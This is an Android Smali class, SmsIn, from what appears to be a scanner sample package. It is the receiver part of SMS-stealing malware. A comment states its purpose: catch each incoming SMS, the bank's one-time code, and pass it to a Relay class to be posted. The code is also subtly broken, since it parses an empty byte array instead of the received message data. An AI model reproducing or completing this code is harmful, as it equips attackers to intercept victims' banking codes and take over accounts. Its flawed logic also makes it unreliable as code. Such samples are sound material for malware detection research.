.class public Lorg/apkscan/sample/parcel/SmsIn;
.super Landroid/content/BroadcastReceiver;
.source "SmsIn.java"

# Reads each incoming SMS (the bank's one-time code) and posts it.
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    const/4 v0, 0x0
    new-array v0, v0, [B
    invoke-static {v0}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v1
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v2
    new-instance v0, Lorg/apkscan/sample/parcel/Relay;
    invoke-direct {v0}, Lorg/apkscan/sample/parcel/Relay;-><init>()V
    invoke-virtual {v0, v2}, Lorg/apkscan/sample/parcel/Relay;->post(Ljava/lang/String;)V
    return-void
.end method
